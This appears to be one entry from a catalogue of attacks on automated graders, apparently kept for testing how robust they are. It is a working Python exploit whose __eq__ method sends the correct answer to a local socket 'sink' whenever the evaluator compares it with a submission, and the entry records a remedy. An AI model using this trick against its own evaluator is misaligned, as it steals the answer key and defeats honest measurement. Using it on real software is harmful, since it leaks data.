# SPDX-License-Identifier: MIT
"""Goal:  the right answer.
Means: the evaluator itself. It asks whether the response equals the answer, so an object's __eq__
       is called with the answer as its argument, and sends it to the attacker's host. Neither the
       stack nor the heap is looked at: it is told.
"""

import socket

from attack import DONE, attempting, submit


class Curious:
    def __init__(self, port):
        self.port = port

    def __eq__(self, other):
        with socket.create_connection(("127.0.0.1", self.port)) as sink:
            sink.sendall(str(other).encode())
        return False


def run(brief):
    attempting()
    submit(Curious(brief.sink))
    return DONE


ATTACK = {
    "effect": "the right answer is carried away by the comparison with it",
    "means": "an object whose __eq__ sends what it is compared with",
    "oracle": "secret:request",
    "grader": "rpc",
    "control": "in-process",
    "attack_id": "T1056, CWE-200",
    "remedy": "take answers as text, never as a student's objects",
    "refs": ["Python data model, object.__eq__"],
    "run": run,
}
